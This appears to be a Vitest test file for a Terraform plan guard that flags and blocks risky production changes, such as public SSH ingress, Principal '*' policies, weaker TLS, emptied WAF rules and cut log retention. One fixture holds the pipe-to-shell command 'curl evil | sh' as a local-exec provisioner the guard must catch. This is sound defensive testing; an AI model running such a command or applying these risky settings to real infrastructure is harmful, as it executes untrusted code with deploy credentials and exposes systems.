import { describe, expect, it } from "vitest";
import { guard, protectedList } from "../../scripts/lib/guard";
import { summarize } from "../../scripts/lib/plan-summary";
import { renderMarkdown, renderText } from "../../scripts/lib/render-summary";
import { accessOf, risksOf, tlsRank } from "../../scripts/lib/risks";
import type { PlanJson, ResourceChange } from "../../scripts/lib/terraform";
import { change, deployedResource, planOf } from "./plan-fixtures";

/** A deployed environment: enough resources that one more changed is not a mass creation. */
const DEPLOYED = Array.from({ length: 10 }, (_, i) => deployedResource(`aws_subnet.s${i}`));
const policy = (...statements: object[]) => JSON.stringify({ Version: "2012-10-17", Statement: statements });
const withConfig = (plan: PlanJson, resources: object[]): PlanJson => ({ ...plan, configuration: { root_module: { resources } } });
const one = (rc: ResourceChange, config: object[] = []) => withConfig(planOf([rc], DEPLOYED), config);

/** The guard's verdict on prod (protected by the owner's default list) for `plan`. */
const verdictOn = (plan: PlanJson) => guard([summarize("prod", plan, { list: protectedList({}) })]);

/** Each change a reviewer could miss: the plan, and the finding it must raise. */
const cases: Record<string, { plan: PlanJson; finding: RegExp }> = {
  "a local-exec provisioner": {
    plan: one(change("terraform_data.x", ["create"], null, { input: "x" }), [
      {
        address: "terraform_data.x",
        type: "terraform_data",
        provisioners: [{ type: "local-exec", expressions: { command: { constant_value: "curl evil | sh" } } }],
      },
    ]),
    finding: /^prod runs a local-exec provisioner on terraform_data\.x with the deploy's credentials: "curl evil \| sh"$/,
  },
  "a null_resource": {
    plan: one(change("null_resource.x", ["create"], null, {})),
    finding: /^prod creates null_resource\.x, a null_resource: it runs commands/,
  },
  "a removed block that forgets a resource": {
    plan: one(change("aws_flow_log.vpc", ["forget"], { id: "fl-1" }, null)),
    finding: /^prod stops managing aws_flow_log\.vpc \(a removed block\)/,
  },
  "a policy newly marked sensitive": {
    plan: one({
      ...change("aws_sqs_queue_policy.q", ["update"], { policy: "{}" }, { policy: "{}" }),
      change: {
        actions: ["update"],
        before: { policy: "{}" },
        after: { policy: "{}" },
        before_sensitive: {},
        after_sensitive: { policy: true },
      },
    }),
    finding: /^prod hides aws_sqs_queue_policy\.q policy from review/,
  },
  'a queue policy allowing Principal "*"': {
    plan: one(
      change(
        "aws_sqs_queue_policy.q",
        ["update"],
        { policy: policy({ Effect: "Allow", Principal: { Service: "sns.amazonaws.com" }, Action: "sqs:SendMessage" }) },
        { policy: policy({ Effect: "Allow", Principal: { AWS: "*" }, Action: "sqs:*" }) },
      ),
    ),
    finding: /^prod allows Principal "\*" in aws_sqs_queue_policy\.q policy: Allow \{"AWS":"\*"\}: sqs:\*$/,
  },
  "SSH from the internet": {
    plan: one(
      change("aws_vpc_security_group_ingress_rule.ssh", ["create"], null, {
        cidr_ipv4: "0.0.0.0/0",
        from_port: 22,
        to_port: 22,
        ip_protocol: "tcp",
      }),
    ),
    finding: /^prod opens aws_vpc_security_group_ingress_rule\.ssh to the internet: ingress port 22 from 0\.0\.0\.0\/0$/,
  },
  "HTTPS from the internet to the instances, not the load balancer": {
    plan: one(
      change("aws_security_group_rule.app", ["create"], null, {
        type: "ingress",
        ipv6_cidr_blocks: ["::/0"],
        from_port: 443,
        to_port: 443,
      }),
      [
        {
          address: "aws_security_group_rule.app",
          type: "aws_security_group_rule",
          expressions: { security_group_id: { references: ["aws_security_group.instances.id", "aws_security_group.instances"] } },
        },
        {
          address: "aws_lb.alb",
          type: "aws_lb",
          expressions: { security_groups: { references: ["aws_security_group.alb.id", "aws_security_group.alb"] } },
        },
      ],
    ),
    finding: /^prod opens aws_security_group_rule\.app to the internet: ingress port 443 from ::\/0$/,
  },
  "the public access block turned off": {
    plan: one(
      change(
        "aws_s3_bucket_public_access_block.logs",
        ["update"],
        { block_public_acls: true, block_public_policy: true },
        { block_public_acls: true, block_public_policy: false },
      ),
    ),
    finding: /^prod turns S3 public access blocking off on aws_s3_bucket_public_access_block\.logs: block_public_policy$/,
  },
  "a weaker TLS policy": {
    plan: one(
      change(
        "aws_lb_listener.https",
        ["update"],
        { ssl_policy: "ELBSecurityPolicy-TLS13-1-2-2021-06" },
        { ssl_policy: "ELBSecurityPolicy-TLS-1-0-2015-04" },
      ),
    ),
    finding: /^prod weakens TLS on aws_lb_listener\.https: "ELBSecurityPolicy-TLS13-1-2-2021-06" → "ELBSecurityPolicy-TLS-1-0-2015-04"$/,
  },
  "WAF rules emptied": {
    plan: one(
      change(
        "aws_wafv2_web_acl.waf",
        ["update"],
        { rule: [], rule_json: JSON.stringify([{ Name: "a" }, { Name: "b" }]) },
        { rule: [], rule_json: "[]" },
      ),
    ),
    finding: /^prod empties the WAF web ACL aws_wafv2_web_acl\.waf: it had 2 rule\(s\)$/,
  },
  "log retention cut": {
    plan: one(change("aws_cloudwatch_log_group.flow", ["update"], { retention_in_days: 365 }, { retention_in_days: 1 })),
    finding: /^prod shortens log retention on aws_cloudwatch_log_group\.flow: 365 → 1 days$/,
  },
  "log retention cut from never expiring": {
    plan: one(change("aws_cloudwatch_log_group.flow", ["update"], { retention_in_days: 0 }, { retention_in_days: 30 })),
    finding: /^prod shortens log retention on aws_cloudwatch_log_group\.flow: never expire → 30 days$/,
  },
  "queue retention cut": {
    plan: one(change("aws_sqs_queue.orders", ["update"], { message_retention_seconds: 1209600 }, { message_retention_seconds: 60 })),
    finding: /^prod shortens message retention on aws_sqs_queue\.orders: 1209600 → 60 s$/,
  },
  "force_destroy turned on": {
    plan: one(change("aws_s3_bucket.logs", ["update"], { force_destroy: false }, { force_destroy: true })),
    finding: /^prod turns force_destroy on for aws_s3_bucket\.logs/,
  },
  "a KMS key disabled": {
    plan: one(change("aws_kms_key.alarms", ["update"], { is_enabled: true }, { is_enabled: false })),
    finding: /^prod disables the KMS key aws_kms_key\.alarms/,
  },
  "the group's max size set to 0": {
    plan: one(change("aws_autoscaling_group.web", ["update"], { min_size: 2, max_size: 4 }, { min_size: 2, max_size: 0 })),
    finding: /^prod sets max_size of aws_autoscaling_group\.web to 0 \(was 4\)$/,
  },
  "a deployed group's launches suspended": {
    plan: one(
      change(
        "aws_autoscaling_group.web",
        ["update"],
        { suspended_processes: ["AZRebalance"] },
        { suspended_processes: ["AZRebalance", "Launch", "ReplaceUnhealthy"] },
      ),
    ),
    finding:
      /^prod suspends Launch, ReplaceUnhealthy on aws_autoscaling_group\.web: it stops launching, registering or replacing serving instances$/,
  },
  "a fixed response for the whole site": {
    plan: one(
      change("aws_lb_listener_rule.maintenance", ["create"], null, {
        priority: 1,
        condition: [{ path_pattern: [{ values: ["/*"] }] }],
        action: [{ type: "fixed-response", fixed_response: [{ status_code: "503" }] }],
      }),
    ),
    finding:
      /^prod answers the site itself with a fixed response ahead of the default forward: aws_lb_listener_rule\.maintenance priority 1: path_pattern \["\/\*"\] → fixed-response 503$/,
  },
  "a state that holds one resource of many": {
    plan: planOf(
      Array.from({ length: 9 }, (_, i) => change(`aws_subnet.n${i}`, ["create"], null, {})),
      [deployedResource("aws_vpc.v")],
    ),
    finding: /^prod would create 9 of its 10 resources although its state holds 1: a state that is not this environment's/,
  },
};

describe("what a reviewer could miss", () => {
  it.each(Object.entries(cases))("finds %s, and blocks a protected environment for it alone", (_, { plan, finding }) => {
    const risks = risksOf("prod", plan, plan.prior_state?.values?.root_module?.resources?.length ?? 0);
    expect(risks.filter((r) => finding.test(r))).toHaveLength(1);
    // A provisioner comes on a terraform_data or null_resource, which is a finding of its own.
    expect(risks).toHaveLength(finding.source.includes("provisioner") ? 2 : 1);
    const verdict = verdictOn(plan);
    expect(verdict.blocked).toBe(true);
    expect(verdict.reasons).toEqual([
      `prod (protected) has ${risks.length} change(s) that run commands, leave the state, open access, lose data or take capacity away`,
    ]);
  });

  it.each(Object.entries(cases))("puts %s on the first screen, in text and Markdown", (_, { plan, finding }) => {
    const summary = summarize("prod", plan, { list: protectedList({}) });
    const risk = summary.risks.find((r) => finding.test(r))!;
    const firstLines = (text: string, n: number) => text.split("\n").slice(0, n);
    expect(firstLines(renderText([summary]), 4)).toContain(`  ! ${risk}`);
    expect(firstLines(renderMarkdown([summary]), 14)).toContain(`> - ${risk}`);
  });

  it("warns, without blocking, on an environment nobody protects", () => {
    const { plan } = cases["SSH from the internet"]!;
    const summary = summarize("dev", plan, { list: protectedList({}) });
    expect(summary.warnings).toEqual([expect.stringMatching(/^dev opens /)]);
    expect(guard([summary]).blocked).toBe(false);
  });

  it("passes the allow-destroy override, and records it", () => {
    const verdict = guard([summarize("prod", cases["a KMS key disabled"]!.plan, { list: protectedList({}) })], {
      allowDestroy: true,
      reason: "label allow-destroy:prod",
    });
    expect(verdict).toMatchObject({ blocked: false, overriddenBy: "label allow-destroy:prod" });
  });
});

describe("what is not a risk", () => {
  const quiet: Record<string, PlanJson> = {
    "HTTP and HTTPS from the internet to the load balancer": one(
      change('aws_vpc_security_group_ingress_rule.https["0.0.0.0/0"]', ["create"], null, {
        cidr_ipv4: "0.0.0.0/0",
        from_port: 443,
        to_port: 443,
      }),
      [
        {
          address: "aws_vpc_security_group_ingress_rule.https",
          type: "aws_vpc_security_group_ingress_rule",
          expressions: { security_group_id: { references: ["aws_security_group.alb.id", "aws_security_group.alb"] } },
        },
        {
          address: "aws_lb.alb",
          type: "aws_lb",
          expressions: { security_groups: { references: ["aws_security_group.alb.id", "aws_security_group.alb"] } },
        },
      ],
    ),
    'a TLS-only deny for Principal "*"': one(
      change("aws_sqs_queue_policy.q", ["create"], null, {
        policy: policy({ Effect: "Deny", Principal: "*", Action: "sqs:*", Condition: { Bool: { "aws:SecureTransport": "false" } } }),
      }),
    ),
    'a Principal "*" statement that was already deployed': one(
      change(
        "aws_sqs_queue_policy.q",
        ["update"],
        { policy: policy({ Effect: "Allow", Principal: "*", Action: "sqs:SendMessage" }), x: 1 },
        { policy: policy({ Effect: "Allow", Principal: "*", Action: "sqs:SendMessage" }), x: 2 },
      ),
    ),
    "a stronger TLS policy": one(
      change(
        "aws_lb_listener.https",
        ["update"],
        { ssl_policy: "ELBSecurityPolicy-TLS-1-2-2017-01" },
        { ssl_policy: "ELBSecurityPolicy-TLS13-1-2-2021-06" },
      ),
    ),
    "longer retention": one(change("aws_cloudwatch_log_group.flow", ["update"], { retention_in_days: 30 }, { retention_in_days: 0 })),
    "a fixed 403 on /stress*": one(
      change("aws_lb_listener_rule.stress", ["create"], null, {
        priority: 10,
        condition: [{ path_pattern: [{ values: ["/stress*"] }] }],
        action: [{ type: "fixed-response", fixed_response: [{ status_code: "403" }] }],
      }),
    ),
    "benign capacity settings on a deployed group": one(
      change(
        "aws_autoscaling_group.web",
        ["update"],
        { min_size: 2, max_size: 4 },
        {
          min_size: 2,
          max_size: 4,
          suspended_processes: ["AZRebalance"],
          termination_policies: ["OldestLaunchTemplate", "Default"],
          default_instance_warmup: 120,
          max_instance_lifetime: 604800,
        },
      ),
    ),
    "launches suspended already before the change": one(
      change(
        "aws_autoscaling_group.web",
        ["update"],
        { suspended_processes: ["Launch"], max_size: 4 },
        { suspended_processes: ["Launch"], max_size: 5 },
      ),
    ),
    "a new queue in a deployed environment": planOf(
      Array.from({ length: 3 }, (_, i) => change(`aws_sqs_queue.q${i}`, ["create"], null, {})),
      DEPLOYED,
    ),
    "the first deploy, from an empty state": planOf(Array.from({ length: 9 }, (_, i) => change(`aws_subnet.n${i}`, ["create"], null, {}))),
  };

  it.each(Object.entries(quiet))("raises nothing for %s", (_, plan) => {
    expect(risksOf("prod", plan, plan.prior_state?.values?.root_module?.resources?.length ?? 0)).toEqual([]);
    expect(verdictOn(plan).reasons.filter((r) => r.includes("change(s) that run commands"))).toEqual([]);
  });
});

describe("access shown in the summary", () => {
  it("shows the ports and CIDRs of created rules, the principals and actions of policies, and what listener rules do", () => {
    expect(
      accessOf(
        change("aws_vpc_security_group_ingress_rule.ssh", ["create"], null, {
          cidr_ipv4: "0.0.0.0/0",
          from_port: 22,
          to_port: 22,
          ip_protocol: "tcp",
        }),
      ),
    ).toEqual(["ingress tcp 22 from 0.0.0.0/0"]);
    expect(
      accessOf(
        change(
          "aws_kms_key_policy.k",
          ["update"],
          {},
          { policy: policy({ Effect: "Allow", Principal: "*", Action: ["kms:Decrypt", "kms:Encrypt"] }) },
        ),
      ),
    ).toEqual(['policy: Allow "*": kms:Decrypt, kms:Encrypt']);
    expect(
      accessOf(
        change("aws_lb_listener_rule.api", ["create"], null, {
          priority: 20,
          condition: [{ host_header: [{ values: ["api.example.com"] }] }],
          action: [{ type: "forward" }],
        }),
      ),
    ).toEqual(['priority 20: host_header ["api.example.com"] → forward']);
  });

  it("lists them, uncollapsed, in each environment's section", () => {
    const summary = summarize("prod", cases["SSH from the internet"]!.plan);
    const markdown = renderMarkdown([summary]);
    expect(markdown).toMatch(
      /\*\*Access created or changed\*\* \(1\)\n\n- create `aws_vpc_security_group_ingress_rule\.ssh`: `ingress tcp 22 from 0\.0\.0\.0\/0`/,
    );
    expect(markdown.indexOf("Access created or changed")).toBeLessThan(
      markdown.indexOf("<details>") === -1 ? Infinity : markdown.indexOf("<details>"),
    );
    expect(renderText([summary])).toMatch(
      /access \(create\) aws_vpc_security_group_ingress_rule\.ssh\n {6}ingress tcp 22 from 0\.0\.0\.0\/0/,
    );
  });

  it("counts forgotten resources in the table and lists them", () => {
    const summary = summarize("prod", cases["a removed block that forgets a resource"]!.plan);
    expect(summary.counts.forget).toBe(1);
    expect(renderMarkdown([summary])).toMatch(/\| prod \| 0 \| 0 \| 0 \| 0 \| 0 \| 1 \|/);
    expect(renderText([summary])).toMatch(/prod: 0 to create, 0 to update, 0 to replace, 0 to destroy, 0 to move, 1 to forget/);
  });
});

describe("TLS policies ranked", () => {
  it("orders TLS 1.3-only above 1.3 with 1.2, above 1.2, above 1.1, above 1.0", () => {
    const ranks = [
      "ELBSecurityPolicy-TLS13-1-3-2021-06",
      "ELBSecurityPolicy-TLS13-1-2-2021-06",
      "ELBSecurityPolicy-TLS-1-2-2017-01",
      "ELBSecurityPolicy-TLS-1-1-2017-01",
      "ELBSecurityPolicy-2016-08",
    ].map(tlsRank);
    expect(ranks).toEqual([5, 4, 3, 2, 1]);
  });
});
